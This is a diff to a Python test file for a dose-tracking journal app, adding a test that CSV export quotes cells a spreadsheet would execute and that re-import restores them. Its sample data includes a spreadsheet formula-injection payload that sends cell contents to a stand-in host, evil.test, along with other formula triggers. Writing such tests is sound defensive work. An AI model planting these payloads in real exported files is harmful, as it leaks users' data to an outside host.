@@ -1,5 +1,6 @@
 """Import and export: all or nothing, nothing twice, and a lossless JSON round trip."""
 
+import csv
 import json
 from datetime import UTC, datetime, timedelta
 
@@ -83,6 +84,24 @@ def test_export_csv_reads_back_into_another_journal(kl, person, tmp_path):
     assert kratom_grams(other) == kratom_grams(person)
     mg = [e.elemental_mg for e in other.entries.filter(substance="magnesium")]
     assert mg == [141.0]
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.test/?d=\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)",
+            "'=already quoted", "'plain quote", "fine"]
+
+
+def test_export_csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back_as_they_were(
+    kl, person, tmp_path
+):
+    for hour, note in enumerate(FORMULAS, start=8):
+        kl("dose", "1g", "--at", f"{hour:02d}:00", "--note", note)
+    out = tmp_path / "out.csv"
+    kl("export", "csv", "--output", out)
+    written = {row["note"] for row in csv.DictReader(out.open(newline=""))}
+    assert written == {"'" + note for note in FORMULAS[:5]} | {"'plain quote", "fine"}
+    other = Person.objects.create(timezone="Europe/Berlin")
+    transfer.import_file(person=other, kind="csv", path=out, now=datetime.now(UTC))
+    assert sorted(e.note for e in other.entries.all()) == sorted(FORMULAS)
 
 
 def test_export_json_is_complete(kl, person):
